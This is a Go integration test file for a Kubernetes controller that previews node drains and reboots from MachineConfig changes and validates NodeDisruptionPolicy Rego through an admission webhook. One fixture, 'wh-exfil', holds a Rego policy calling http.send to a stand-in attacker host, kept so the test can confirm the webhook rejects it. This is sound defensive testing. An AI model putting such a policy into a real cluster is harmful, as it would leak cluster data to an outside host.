@@ -1,0 +1,302 @@
+package cluster
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	mcfgv1 "github.com/openshift/api/machineconfiguration/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	ndpmcv1 "github.com/ndp-dev/ndp/apis/machineconfiguration/v1"
+	"github.com/ndp-dev/ndp/apis/v1alpha1"
+	"github.com/ndp-dev/ndp/controllers"
+)
+
+// previewPool creates a pool with a base MachineConfig and n nodes running
+// its rendered config, which it returns.
+func previewPool(t *testing.T, pool string, n int) string {
+	t.Helper()
+	create(t, &mcfgv1.MachineConfigPool{ObjectMeta: metav1.ObjectMeta{Name: pool}, Spec: mcfgv1.MachineConfigPoolSpec{
+		MachineConfigSelector: &metav1.LabelSelector{MatchLabels: map[string]string{controllers.RoleLabel: pool}},
+		NodeSelector:          &metav1.LabelSelector{MatchLabels: map[string]string{"node-role.kubernetes.io/" + pool: ""}},
+	}})
+	create(t, sourceMC(t, "00-"+pool+"-base", pool, map[string]any{"storage": map[string]any{"files": []any{
+		map[string]any{"path": "/etc/kubernetes/kubelet.conf", "contents": map[string]any{"source": "data:,base"}}}}}))
+	// With the generated registries config: two sources.
+	target := waitPool(t, pool, func(p *mcfgv1.MachineConfigPool) bool { return len(p.Spec.Configuration.Source) == 2 }).Spec.Configuration.Name
+	for i := range n {
+		create(t, node(pool+"-"+string(rune('a'+i)), pool, target))
+	}
+	return target
+}
+
+// kubectlFile writes manifest to a file and runs kubectl with -f on it.
+func kubectlFile(t *testing.T, manifest string, args ...string) (string, error) {
+	t.Helper()
+	f := filepath.Join(t.TempDir(), "manifest.yaml")
+	if err := os.WriteFile(f, []byte(manifest), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return kubectl(t, append(args, "-f", f)...)
+}
+
+func renderedCount(t *testing.T, pool string) int {
+	t.Helper()
+	var list ndpmcv1.MachineConfigList
+	if err := k8s.List(context.Background(), &list, client.MatchingLabels{controllers.RenderedForLabel: pool}); err != nil {
+		t.Fatal(err)
+	}
+	return len(list.Items)
+}
+
+func mustNotExist(t *testing.T, obj client.Object) {
+	t.Helper()
+	if err := k8s.Get(context.Background(), client.ObjectKeyFromObject(obj), obj); !apierrors.IsNotFound(err) {
+		t.Errorf("%s %s exists after the request (err %v)", obj.GetObjectKind().GroupVersionKind().Kind, obj.GetName(), err)
+	}
+}
+
+const chronyMC = `apiVersion: machineconfiguration.openshift.io/v1
+kind: MachineConfig
+metadata:
+  name: 50-preview-chrony
+  labels: {machineconfiguration.openshift.io/role: preview}
+spec:
+  osImageURL: quay.io/os@sha256:1
+  config:
+    ignition: {version: 3.4.0}
+    storage:
+      files:
+      - path: /etc/chrony.conf
+        contents: {source: "data:,pool%20ntp.example.com%20iburst"}
+`
+
+// The administrator's view: a server dry-run of a MachineConfig prints,
+// per pool, what the nodes would do; nothing is written.
+func TestMachineConfigDryRunPrintsThePlan(t *testing.T) {
+	target := previewPool(t, "preview", 3)
+	p := policy("preview-chrony", chronySpec())
+	create(t, p)
+	waitCondition(t, "preview-chrony", v1alpha1.ConditionAccepted, metav1.ConditionTrue)
+
+	renderedBefore := renderedCount(t, "preview")
+	out, err := kubectlFile(t, chronyMC, "apply", "--dry-run=server")
+	if err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	want := "Warning: pool preview, 3 nodes: Restart chronyd.service, no drain, no reboot (policy preview-chrony)"
+	if !strings.Contains(out, want) || !strings.Contains(out, "(server dry run)") {
+		t.Errorf("kubectl apply --dry-run=server printed:\n%s\nwant the line %q", out, want)
+	}
+	mustNotExist(t, &ndpmcv1.MachineConfig{ObjectMeta: metav1.ObjectMeta{Name: "50-preview-chrony"}})
+	var pool mcfgv1.MachineConfigPool
+	if err := k8s.Get(context.Background(), client.ObjectKey{Name: "preview"}, &pool); err != nil || pool.Spec.Configuration.Name != target {
+		t.Errorf("the pool's target moved: %s (%v)", pool.Spec.Configuration.Name, err)
+	}
+	if n := renderedCount(t, "preview"); n != renderedBefore {
+		t.Errorf("the dry-run rendered: %d rendered configs, %d before", n, renderedBefore)
+	}
+
+	// The preview follows the active policies: without this one, chrony
+	// needs the default's reboot.
+	if err := k8s.Delete(context.Background(), p); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "the policy leaves the active set", func() bool { _, ok := active.Get("preview-chrony"); return !ok })
+	out, err = kubectlFile(t, chronyMC, "apply", "--dry-run=server")
+	if want := "Warning: pool preview, 3 nodes: Reboot, drains 3 nodes, reboots 3 nodes (unclaimed: file /etc/chrony.conf: added)"; err != nil || !strings.Contains(out, want) {
+		t.Errorf("without the policy, printed (%v):\n%s\nwant %q", err, out, want)
+	}
+
+	// Nodes on two configs: one plan each.
+	older := sourceMCNamed(t, "rendered-preview-older")
+	create(t, older)
+	create(t, node("preview-d", "preview", older.Name))
+	out, err = kubectlFile(t, chronyMC, "apply", "--dry-run=server")
+	if err != nil || !strings.Contains(out, "pool preview, 4 nodes: 3 nodes from "+target+": Reboot, drains 3 nodes") || !strings.Contains(out, "; 1 node from rendered-preview-older: ") {
+		t.Errorf("with nodes on two configs, printed (%v):\n%s", err, out)
+	}
+}
+
+// Deleting an image-mirror set tells how many nodes it drains.
+func TestImageMirrorDryRunPrintsTheDrain(t *testing.T) {
+	before := previewPool(t, "mirrors", 3)
+	idms := `apiVersion: config.openshift.io/v1
+kind: ImageDigestMirrorSet
+metadata: {name: preview-mirror}
+spec:
+  imageDigestMirrors:
+  - source: registry.example.com/team
+    mirrors: [mirror.example.com/team]
+`
+	out, err := kubectlFile(t, idms, "apply", "--dry-run=server")
+	if want := "Warning: creating ImageDigestMirrorSet preview-mirror: pool mirrors, 3 nodes: Reload crio.service, no drain, no reboot (policy default)"; err != nil || !strings.Contains(out, want) {
+		t.Errorf("creating an IDMS, printed (%v):\n%s\nwant %q", err, out, want)
+	}
+	if out, err := kubectlFile(t, idms, "apply"); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	t.Cleanup(func() { _, _ = kubectl(t, "delete", "imagedigestmirrorset", "preview-mirror", "--ignore-not-found") })
+	after := waitPool(t, "mirrors", func(p *mcfgv1.MachineConfigPool) bool { return p.Spec.Configuration.Name != before }).Spec.Configuration.Name
+	setCurrent(t, []string{"mirrors-a", "mirrors-b", "mirrors-c"}, after)
+
+	out, err = kubectl(t, "delete", "--dry-run=server", "imagedigestmirrorset", "preview-mirror")
+	if want := "Warning: deleting ImageDigestMirrorSet preview-mirror: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default)"; err != nil || !strings.Contains(out, want) {
+		t.Errorf("deleting the IDMS, printed (%v):\n%s\nwant %q", err, out, want)
+	}
+	if _, err := kubectl(t, "get", "imagedigestmirrorset", "preview-mirror"); err != nil {
+		t.Error("a dry-run deleted the IDMS")
+	}
+
+	// A mirror set registries.conf cannot hold is refused.
+	out, err = kubectlFile(t, strings.ReplaceAll(idms, "mirror.example.com/team", "registry.example.com/team"), "apply")
+	if err == nil || !strings.Contains(out, "is the source itself") {
+		t.Errorf("a self-mirror was not refused (%v):\n%s", err, out)
+	}
+}
+
+// A change no node can apply in place is refused, naming the field.
+func TestUnreconcilableMachineConfigIsRefused(t *testing.T) {
+	previewPool(t, "disks", 2)
+	disk := `apiVersion: machineconfiguration.openshift.io/v1
+kind: MachineConfig
+metadata:
+  name: 60-disks-data
+  labels: {machineconfiguration.openshift.io/role: disks}
+spec:
+  config:
+    ignition: {version: 3.4.0}
+    storage:
+      disks: [{device: /dev/vdb, wipeTable: true}]
+`
+	out, err := kubectlFile(t, disk, "apply")
+	if err == nil || !strings.Contains(out, `denied the request: MachineConfig "60-disks-data" cannot be applied in place`) || !strings.Contains(out, "pool disks, from rendered-disks-") || !strings.Contains(out, "spec.config.storage.disks") {
+		t.Errorf("kubectl apply of a disk MachineConfig (%v):\n%s", err, out)
+	}
+	mustNotExist(t, &ndpmcv1.MachineConfig{ObjectMeta: metav1.ObjectMeta{Name: "60-disks-data"}})
+
+	old := strings.ReplaceAll(strings.ReplaceAll(disk, "3.4.0", "2.2.0"), "60-disks-data", "60-disks-old")
+	out, err = kubectlFile(t, old, "apply", "--dry-run=server")
+	if err == nil || !strings.Contains(out, `MachineConfig "60-disks-old": spec.config.ignition.version: unsupported config version "2.2.0"`) {
+		t.Errorf("kubectl apply of an Ignition 2.2.0 MachineConfig (%v):\n%s", err, out)
+	}
+}
+
+// Broken policies are refused at the door, with the line or the builtin.
+func TestPolicyWebhookRefusesBrokenPolicies(t *testing.T) {
+	for _, tc := range []struct{ name, manifest, want string }{
+		{"syntax", `apiVersion: ndp.dev/v1alpha1
+kind: NodeDisruptionPolicy
+metadata: {name: wh-syntax}
+spec:
+  rego: |
+    package ndp.policy.wh_syntax
+
+    claims contains {"change": c.id if {
+    	some c in input.changes
+    }
+`, `NodeDisruptionPolicy "wh-syntax" spec.rego:3:`},
+		{"http.send", `apiVersion: ndp.dev/v1alpha1
+kind: NodeDisruptionPolicy
+metadata: {name: wh-exfil}
+spec:
+  rego: |
+    package ndp.policy.wh_exfil
+
+    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+    	some c in input.changes
+    	http.send({"method": "GET", "url": "http://attacker.example.com"})
+    }
+`, "spec.rego:5:2: rego_type_error: builtin http.send is not allowed"},
+		{"net.lookup", `apiVersion: ndp.dev/v1alpha1
+kind: NodeDisruptionPolicy
+metadata: {name: wh-dns}
+spec:
+  rego: |
+    package ndp.policy.wh_dns
+
+    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+    	some c in input.changes
+    	net.lookup_ip_addr("example.com")
+    }
+`, "builtin net.lookup_ip_addr is not allowed"},
+		{"failing regoTests", `apiVersion: ndp.dev/v1alpha1
+kind: NodeDisruptionPolicy
+metadata: {name: wh-tests}
+spec:
+  rego: |
+    package ndp.policy.wh_tests
+
+    claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
+    	some c in input.changes
+    }
+  regoTests: |
+    package ndp.policy.wh_tests_test
+
+    import data.ndp.policy.wh_tests
+
+    test_nothing_is_claimed if {
+    	count(wh_tests.claims) == 0 with input.changes as [{"id": "file:/etc/x", "kind": "file"}]
+    }
+`, "test_nothing_is_claimed"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			out, err := kubectlFile(t, tc.manifest, "apply")
+			if err == nil || !strings.Contains(out, `admission webhook "nodedisruptionpolicies.validate.ndp.dev" denied the request`) || !strings.Contains(out, tc.want) {
+				t.Errorf("kubectl apply (%v):\n%s\nwant a denial containing %q", err, out, tc.want)
+			}
+		})
+	}
+	for _, name := range []string{"wh-syntax", "wh-exfil", "wh-dns", "wh-tests"} {
+		mustNotExist(t, &v1alpha1.NodeDisruptionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name}})
+	}
+}
+
+// With ndp-controller down, MachineConfigs still apply (the preview fails
+// open) and NodeDisruptionPolicies do not (validation fails closed).
+func TestWebhookDownFailsOpenForPreviewsAndClosedForPolicies(t *testing.T) {
+	previewPool(t, "preview", 1)
+	stopReplica()
+	restarted := false
+	defer func() {
+		if !restarted {
+			if err := startReplica(); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}()
+
+	out, err := kubectlFile(t, chronyMC, "apply", "--dry-run=server")
+	if err != nil || strings.Contains(out, "Warning: pool") || !strings.Contains(out, "created (server dry run)") {
+		t.Errorf("with the webhook down, a MachineConfig dry-run (%v):\n%s", err, out)
+	}
+	valid := `apiVersion: ndp.dev/v1alpha1
+kind: NodeDisruptionPolicy
+metadata: {name: wh-down}
+spec:
+  files:
+  - path: /etc/chrony.conf
+    actions: [{type: Restart, restart: {serviceName: chronyd.service}}]
+`
+	out, err = kubectlFile(t, valid, "apply")
+	if err == nil || !strings.Contains(out, `failed calling webhook "nodedisruptionpolicies.validate.ndp.dev"`) {
+		t.Errorf("with the webhook down, a NodeDisruptionPolicy (%v):\n%s", err, out)
+	}
+	mustNotExist(t, &v1alpha1.NodeDisruptionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "wh-down"}})
+
+	restarted = true
+	if err := startReplica(); err != nil {
+		t.Fatal(err)
+	}
+	out, err = kubectlFile(t, valid, "apply")
+	if err != nil {
+		t.Fatalf("after the restart (%v):\n%s", err, out)
+	}
+	t.Cleanup(func() { _, _ = kubectl(t, "delete", "nodedisruptionpolicy", "wh-down") })
+	waitCondition(t, "wh-down", v1alpha1.ConditionAccepted, metav1.ConditionTrue)
+}
